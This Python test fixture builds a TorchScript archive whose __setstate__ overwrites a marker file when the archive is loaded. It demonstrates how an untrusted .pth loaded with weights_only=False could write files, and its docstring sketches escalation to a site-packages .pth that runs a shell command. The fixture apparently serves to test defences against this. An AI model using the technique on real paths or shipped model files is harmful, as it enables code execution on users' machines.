"""A TorchScript module whose ``__setstate__`` writes a file when the archive is loaded.

It is the attack an upstream-style ``.pth`` could carry: ``torch.load(..., weights_only=False)`` sees a
TorchScript archive and hands it to ``torch.jit.load``, which runs this ``__setstate__``; with a path in
site-packages, the file written could be a ``.pth`` that runs a shell command at the next Python start.
Here it only fills a marker file the tests watch.
"""

from __future__ import annotations

from pathlib import Path

import torch
from torch import nn


class FileWriter(nn.Module):
    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.w = torch.zeros(2)

    @torch.jit.export
    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
        return (self.target, self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
        self.target = state[0]
        self.training = state[2]
        # Kept alive through self.w, or TorchScript drops the write as dead code.
        self.w = torch.from_file(self.target, True, 16, dtype=torch.uint8).fill_(65).float()[:2]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.w


def write_payload_archive(path: Path, marker: Path) -> Path:
    """``torch.jit.save`` of a module that, when loaded, overwrites the 16 bytes of ``marker`` with 'A'."""
    marker.write_bytes(b"x" * 16)  # from_file maps an existing file; the attack needs one to exist
    torch.jit.save(torch.jit.script(FileWriter(str(marker))), str(path))
    return path
